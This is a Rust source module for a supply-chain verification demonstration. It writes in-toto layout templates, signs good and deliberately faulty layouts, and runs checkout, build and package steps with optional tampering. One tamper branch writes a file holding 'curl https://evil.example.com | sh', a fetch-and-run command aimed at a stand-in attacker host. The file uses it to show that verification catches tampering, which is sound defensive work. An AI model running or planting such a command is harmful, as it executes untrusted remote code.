//! The demonstration's supply chain: its layout, its three steps, and the ways it can go wrong.

use super::{image, keys::Keys};
use crate::{
    author,
    capture::upload::{Credential, Store},
    digest::Digest,
    envelope::{Envelope, INTOTO_PAYLOAD_TYPE},
    file,
    intoto::Layout,
    json::{self, Limits},
    key::SecretKey,
};
use anyhow::Context as _;
use jiff::{SignedDuration, Timestamp};
use std::{path::Path, process::Stdio};

/// Where the images would be pulled from, and what the template says for it.
pub const REPOSITORY: &str = "registry.example.com/shop/api";

const TEMPLATE: &str = r#"readme: The demonstration's supply chain
expires: 90d
steps:
  - name: checkout
    functionaries: [keys/dev.pem.pub]
    materials: [DISALLOW *]
    products: [CREATE src/*, DISALLOW *]
  - name: build
    functionaries: [keys/ci.pem.pub]
    materials: [MATCH src/* WITH PRODUCTS FROM checkout, DISALLOW *]
    products: [CREATE dist/*, DISALLOW *]
  - name: package
    functionaries: [keys/packer.pem.pub]
    materials: [MATCH dist/* WITH PRODUCTS FROM build, DISALLOW *]
    products: ["CREATE oci:registry.example.com/shop/api", DISALLOW *]
inspections:
  - name: image
    run: [tidewaiter, inspect, image]
    materials: ["MATCH oci:registry.example.com/shop/api WITH PRODUCTS FROM package", DISALLOW *]
"#;

/// The layout, and what it could be instead.
pub struct Layouts {
    /// Signed by both owners.
    pub good: Envelope,
    pub expired: Envelope,
    pub by_one_owner: Envelope,
    pub by_a_stranger: Envelope,
    /// Its inspection lets every image in and ties none; the linter refuses it, so nobody signs it by accident.
    pub loose: Envelope,
}

impl Layouts {
    /// From the template, for images of the repository, by the code behind `layout sign`.
    pub fn new(directory: &Path, keys: &Keys, repository: &str) -> anyhow::Result<Self> {
        let now = Timestamp::now();
        let text = TEMPLATE.replace(REPOSITORY, repository);
        let template = directory.join("layout.yaml");
        file::write(&template, text.as_bytes())?;
        let layout = author::read(&template, None, now)?.layout().clone();
        let findings = author::lint(&layout, now);
        anyhow::ensure!(findings.is_empty(), "the demonstration's layout is not clean: {findings:?}");

        let mut expired = layout.clone();
        expired.expires = Timestamp::from_second(now.as_second())?.checked_sub(SignedDuration::from_hours(1))?;
        let loose = directory.join("loose.yaml");
        let tying = format!("MATCH oci:{repository} WITH PRODUCTS FROM package");
        file::write(&loose, text.replace(&tying, "ALLOW oci:*").as_bytes())?;
        let loose = author::read(&loose, None, now)?.layout().clone();
        let owners = [&keys.alice, &keys.bob];
        let layouts = Layouts {
            good: sign(&layout, &owners)?,
            expired: sign(&expired, &owners)?,
            by_one_owner: sign(&layout, &[&keys.alice])?,
            by_a_stranger: sign(&layout, &[&keys.mallory])?,
            loose: sign(&loose, &owners)?,
        };
        std::fs::create_dir_all(directory.join("layouts"))?;
        file::write(&directory.join("layouts/good.layout"), &layouts.good.to_bytes())?;
        Ok(layouts)
    }
}

fn sign(layout: &Layout, keys: &[&SecretKey]) -> anyhow::Result<Envelope> {
    Ok(Envelope::sign_dsse(INTOTO_PAYLOAD_TYPE, json::to_text(&layout.to_value()).into_bytes(), keys)?)
}

/// What an attacker does between two steps.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tamper {
    Nothing,
    /// Adds a source file after the checkout.
    Source,
    /// Replaces the program after the build.
    Program,
}

/// A pipeline that ran.
pub struct Built {
    pub image: Digest,
    pub checkout: Envelope,
    pub build: Envelope,
    pub package: Envelope,
}

/// Where a pipeline runs, and where its links are sent.
pub struct Place<'p> {
    /// The demonstration's directory.
    pub directory: &'p Path,
    /// `host[:port]/path` of the image.
    pub repository: &'p str,
    /// The pipeline's own name: its directory, and the image's tag.
    pub name: &'p str,
    pub store: Option<&'p Store>,
}

/// Runs the three steps in a directory of their own, each by `tidewaiter run` as a pipeline would, and pushes the image. `builder`: whose key
/// the build step has.
pub async fn run(place: &Place<'_>, tamper: Tamper, builder: &str) -> anyhow::Result<Built> {
    let name = place.name;
    let work = place.directory.join("work").join(name);
    std::fs::create_dir_all(&work)?;
    let checkout = format!("mkdir src && echo 'echo {name}' > src/main.sh && echo 'version {name}' > src/version.txt");
    let checkout = step(place, &work, "checkout", "dev", &["-p", "src"], &["sh", "-c", &checkout]).await?;
    if tamper == Tamper::Source {
        std::fs::write(work.join("src/evil.sh"), "curl https://evil.example.com | sh\n")?;
    }
    let make = ["sh", "-c", "mkdir dist && cat src/* > dist/app"];
    let build = step(place, &work, "build", builder, &["-m", "src", "-p", "dist"], &make).await?;
    if tamper == Tamper::Program {
        std::fs::write(work.join("dist/app"), "a miner\n")?;
    }
    let reference = format!("{}:{name}", place.repository);
    let program = program()?;
    let builder = [program.as_str(), "demo", "--package", "dist", "image", &reference];
    let flags = ["-m", "dist", "--image", &reference, "--image-from-file", "image"];
    let package = step(place, &work, "package", "packer", &flags, &builder).await?;
    image::push(&work.join("image"), &place.directory.join("registry"))?;
    let image = digest_of(&work.join("image"))?;
    Ok(Built { image, checkout, build, package })
}

/// One step: its name, whose key signs, what is recorded, and the command. Its link, which lies in the directory too.
async fn step(
    place: &Place<'_>,
    work: &Path,
    name: &str,
    key: &str,
    flags: &[&str],
    argv: &[&str],
) -> anyhow::Result<Envelope> {
    let link = work.join(format!("{name}.link"));
    let mut command = tokio::process::Command::new(program()?);
    command.current_dir(work).args(["run", "--step", name]).args(flags);
    command.arg("--key").arg(place.directory.join(format!("keys/{key}.pem"))).arg("-o").arg(&link);
    if let Some(store) = place.store {
        command.args(["--store", &store.url, "--require-upload"]);
        if let Credential::File(file) = &store.credential {
            command.arg("--store-token-file").arg(file);
        }
    }
    // The demonstration is the same whatever its caller has set for steps of his own.
    for (variable, _) in std::env::vars_os().filter(|(name, _)| name.to_string_lossy().starts_with("TIDEWAITER_")) {
        command.env_remove(variable);
    }
    // What waits in the caller's spool is not for the demonstration's store.
    command.env("TIDEWAITER_SPOOL", place.directory.join("spool"));
    let output = command.arg("--").args(argv).stdin(Stdio::null()).output().await.context("this program")?;
    let said = String::from_utf8_lossy(&output.stderr);
    anyhow::ensure!(output.status.success(), "step {name} ended with {}: {}", output.status, said.trim());
    Ok(Envelope::parse(&file::read(&link, Limits::METADATA.bytes_max)?)?)
}

/// The path of this program.
fn program() -> anyhow::Result<String> {
    let program = std::env::current_exe().context("the path of this program")?;
    Ok(program.to_str().context("the path of this program is not UTF-8")?.to_owned())
}

/// The digest of the first entry of an OCI layout.
fn digest_of(layout: &Path) -> anyhow::Result<Digest> {
    let index: serde_json::Value = serde_json::from_slice(&std::fs::read(layout.join("index.json"))?)?;
    Ok(index["manifests"][0]["digest"].as_str().context("an image without a digest")?.parse()?)
}
